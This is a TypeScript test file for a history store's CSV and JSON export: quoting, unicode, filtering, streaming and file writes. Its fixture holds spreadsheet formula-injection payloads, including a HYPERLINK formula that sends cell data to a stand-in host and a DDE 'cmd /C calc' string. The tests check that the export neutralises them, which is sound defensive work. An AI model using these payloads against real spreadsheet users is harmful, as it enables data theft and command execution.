import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import { test } from 'node:test';
import { AppError } from '../../shared/domain/errors';
import type { HistoryEntry } from '../../shared/domain/history';
import { tempDir } from '../support/temp-dir';
import { entry, open } from './history-support';
import { readCsv } from '../support/csv';

/** A writable that keeps what it gets, chunk by chunk. */
function sink(): { stream: Writable; chunks: Buffer[]; text: () => string } {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  return { stream, chunks, text: () => Buffer.concat(chunks).toString('utf8') };
}

const NASTY: Partial<HistoryEntry> = {
  user: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  userName: '@SUM(1+1)*cmd|" /C calc"!A0',
  message: '+1+1, then "quoted", then\na new line',
  zoomMessage: '-2+3',
  trackingId: '\tstarts with a tab',
  reason: '\rstarts with CR',
  account: 'Ünïcødé 山田 🚀',
  zoomCode: -1,
};

test('CSV: header, RFC 4180 quoting, unicode, and formula injection neutralised', async (t) => {
  const store = open(tempDir(t));
  store.append(entry(1));
  const nasty = store.append(entry(2, NASTY));
  const out = sink();
  const result = await store.exportCsv({}, out.stream);
  assert.deepEqual(result, { rows: 2, file: null });
  const text = out.text();
  assert.ok(text.startsWith('\uFEFF'), 'UTF-8 byte-order mark for spreadsheets');
  const rows = readCsv(text.slice(1));
  assert.equal(rows.length, 3);
  const header = rows[0] as string[];
  assert.deepEqual(header.slice(0, 5), ['Time', 'Account', 'User', 'User name', 'Outcome']);
  const cell = (row: string[], name: string) => row[header.indexOf(name)];
  const first = rows[1] as string[];
  assert.equal(cell(first, 'Request ID'), 'req-2', 'newest first');
  assert.equal(cell(first, 'User'), `'${NASTY.user}`);
  assert.equal(cell(first, 'User name'), `'${NASTY.userName}`);
  assert.equal(cell(first, 'Message'), `'${NASTY.message}`);
  assert.equal(cell(first, 'Zoom message'), `'${NASTY.zoomMessage}`);
  assert.equal(cell(first, 'Tracking ID'), `'${NASTY.trackingId}`);
  assert.equal(cell(first, 'Reason'), `'${NASTY.reason}`);
  assert.equal(cell(first, 'Account'), NASTY.account);
  assert.equal(cell(first, 'Zoom code'), '-1', 'a number is a number, not a formula');
  assert.equal(cell(first, 'Hash'), nasty.hash);
  assert.equal(cell(first, 'Seq'), '2');
  const second = rows[2] as string[];
  assert.equal(cell(second, 'Account'), 'Default');
  assert.equal(cell(second, 'Zoom message'), '', 'null is an empty cell');
  assert.equal(cell(second, 'User'), 'user1@example.com');
  for (const row of rows.slice(1)) {
    for (const value of row) {
      // Plain numbers (a negative Zoom code) stay numbers; every other text is neutralised.
      if (!/^-?\d+$/.test(value)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `neutralised: ${JSON.stringify(value)}`);
    }
  }
});

test('exports follow the filter and order, ignore paging, and JSON holds the entries as stored', async (t) => {
  const store = open(tempDir(t));
  const stored = store.appendMany(
    Array.from({ length: 30 }, (_, i) => entry(i + 1, { outcome: i % 3 === 0 ? 'rejected' : 'updated' })),
  );
  const out = sink();
  const result = await store.exportJson(
    { outcome: 'rejected', order: 'oldest', limit: 2, offset: 5 } as never,
    out.stream,
  );
  assert.equal(result.rows, 10);
  const parsed = JSON.parse(out.text()) as HistoryEntry[];
  assert.deepEqual(
    parsed,
    stored.filter((e) => e.outcome === 'rejected'),
  );
  const csv = sink();
  await store.exportCsv({ search: 'track-2' }, csv.stream);
  assert.deepEqual(
    readCsv(csv.text().slice(1))
      .slice(1)
      .map((r) => r[16]),
    ['req-29', 'req-28', 'req-27', 'req-26', 'req-25', 'req-24', 'req-23', 'req-22', 'req-21', 'req-20', 'req-2'],
  );
  const empty = sink();
  assert.deepEqual(await open(tempDir(t)).exportJson({}, empty.stream), { rows: 0, file: null });
  assert.deepEqual(JSON.parse(empty.text()), []);
});

test('exports stream in chunks and leave a given stream open', async (t) => {
  const store = open(tempDir(t));
  store.appendMany(Array.from({ length: 3000 }, (_, i) => entry(i + 1)));
  const out = sink();
  await store.exportJson({}, out.stream);
  const total = out.chunks.reduce((n, c) => n + c.length, 0);
  assert.ok(out.chunks.length > 100, `${out.chunks.length} chunks`);
  assert.ok(Math.max(...out.chunks.map((c) => c.length)) < total / 10, 'no single giant string');
  assert.equal(out.stream.writableEnded, false);
  assert.equal((JSON.parse(out.text()) as unknown[]).length, 3000);
});

test('export to a file: written complete under its name, or not at all', async (t) => {
  const dir = tempDir(t);
  const store = open(dir);
  store.append(entry(1, { userName: 'Zoë' }));
  const file = path.join(dir, 'out.csv');
  assert.deepEqual(await store.exportCsv({}, file), { rows: 1, file });
  assert.match(fs.readFileSync(file, 'utf8'), /Zoë/);
  const json = path.join(dir, 'out.json');
  await store.exportJson({}, json);
  assert.equal((JSON.parse(fs.readFileSync(json, 'utf8')) as unknown[]).length, 1);
  const missing = path.join(dir, 'no-such-folder', 'out.csv');
  await assert.rejects(
    store.exportCsv({}, missing),
    (error: unknown) => error instanceof AppError && error.code === 'storage_error' && error.message.includes(missing),
  );
  assert.deepEqual(fs.readdirSync(dir).sort(), ['history', 'out.csv', 'out.json']);
  await assert.rejects(store.exportCsv({ since: 'last week' }, file), { code: 'invalid_input' });
});
